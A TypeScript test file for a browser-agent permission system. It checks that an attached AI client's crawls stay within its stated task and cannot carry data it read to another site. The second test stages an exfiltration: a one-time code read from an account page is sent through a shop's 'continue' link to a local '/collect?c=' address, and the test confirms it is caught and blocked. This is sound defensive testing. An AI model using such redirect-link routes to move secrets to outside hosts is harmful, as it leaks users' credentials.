// An attached client's crawl and scrape capabilities are bound as its page actions are, in both
// browsers: the task it stated is their scope (a crawl it did not ask for asks the person), and what a
// crawl reaches on another site is judged in the client's name against what the client read (the
// data-flow rule). The person trusts the shop up to "submit", as where they work, and lets Bosun
// navigate the other site; requests are counted on the sites' own servers.
import { existsSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scopeAnswer } from '../fixtures/llm-server';
import { startRecordingServer, type RecordingServer } from '../hardening/recording-server';
import { BROWSERS, waitUntil } from './harness';
import { answerPrompt, noPromptFor } from './support/agent';
import { useAttachedBrowser } from './support/attached';
import { FULL_TOOLS, textOf } from './support/bridge';
import { setSiteRule } from './support/permissions';

/** A code only the person's account page shows. */
const CODE = 'OTP-583920';

describe.each(BROWSERS)("an attached client's crawls in %s", { timeout: 300_000 }, (browserName) => {
  const attached = useAttachedBrowser(browserName);
  let shop: RecordingServer;
  let other: RecordingServer;

  beforeAll(async () => {
    shop = await startRecordingServer('127.0.0.2', (path) => {
      if (path === '/account') return `<html><body><h1>Your account</h1><p>Sign-in code: ${CODE}</p></body></html>`;
      // A "continue to" page, as many sites have: it shows the address it is given as a link.
      if (path === '/continue')
        return `<html><body><p id="to">Continue</p><script>const a = document.createElement('a'); a.href = new URLSearchParams(location.search).get('to'); a.textContent = 'Continue'; document.body.append(a);</script></body></html>`;
      return `<html><body><h1>Returns</h1><a href="/docs/shipping.html">Shipping</a></body></html>`;
    });
    other = await startRecordingServer('127.0.0.4');
    await attached.setSwitch(true);
    await waitUntil(() => existsSync(attached.socket()), { message: 'the host did not open its socket' });
    await setSiteRule(attached.sidebar, '127.0.0.2', 'submit');
    await setSiteRule(attached.sidebar, '127.0.0.4', 'navigate');
  });
  afterAll(async () => {
    await shop?.close();
    await other?.close();
  });

  it('a crawl beyond the stated task asks the person, and denied, reads nothing', async () => {
    const reader = await attached.agent('Scoped Reader', FULL_TOOLS);
    attached.llm.scriptScope(scopeAnswer('read-only'));
    const stated = await reader.call('browser_set_task', { task: 'Tell me what this page says about returns' });
    expect(stated.isError, textOf(stated)).toBeFalsy();
    const crawling = reader.call('abp_crawl_start', { urls: `${shop.url}/docs/` });
    const asked = await answerPrompt(attached.sidebar, 'deny');
    expect(asked.requester).toMatch(/Scoped Reader via MCP/);
    expect(asked.beyond).toMatch(/did not ask/);
    const refused = await crawling;
    expect(refused.isError).toBe(true);
    expect(textOf(refused)).toMatch(/PERMISSION_DENIED|Denied/);
    // Counted on the shop's server: nothing of the crawl reached it.
    expect(shop.log.filter((r) => r.path.startsWith('/docs'))).toEqual([]);
  });

  it("a crawl that reaches another site with a code the client read asks the person in the client's name", async () => {
    const researcher = await attached.agent('Researcher', FULL_TOOLS);
    attached.llm.scriptScope(scopeAnswer('navigate'));
    const task = 'Look through my account pages on this shop and tell me what they say';
    expect((await researcher.call('browser_set_task', { task })).isError).toBeFalsy();
    const opened = await researcher.call('browser_navigate', { url: `${shop.url}/account` });
    expect(opened.isError, textOf(opened)).toBeFalsy();
    const read = await researcher.call('browser_snapshot');
    expect(textOf(read)).toContain(CODE);

    // The obedient agent crawls the shop's "continue" page, whose link carries the code to the other site.
    const onward = `${other.url}/collect?c=${CODE}`;
    const started = await researcher.call('abp_crawl_start', {
      urls: `${shop.url}/continue?to=${encodeURIComponent(onward)}`,
      options: { followExternalLinks: true, maxWorkers: 1 },
    });
    expect(started.isError, textOf(started)).toBeFalsy();
    const jobId = started.structuredContent?.jobId as string;
    const asked = await answerPrompt(attached.sidebar, 'deny');
    expect(asked.requester).toMatch(/Researcher via MCP/);
    expect(asked.dataFlow).toContain(CODE);
    await waitUntil(
      async () => {
        const status = await researcher.call('abp_crawl_status', { jobId });
        return status.structuredContent?.active === false;
      },
      { message: 'the crawl did not end', timeoutMs: 60_000 },
    );
    expect(await noPromptFor(attached.sidebar, 500)).toBe(true);
    // Counted on the other site's server: the code never reached it, nor did any request.
    expect(other.log).toEqual([]);
    expect(shop.log.some((r) => r.path.startsWith('/continue'))).toBe(true);
  });
});
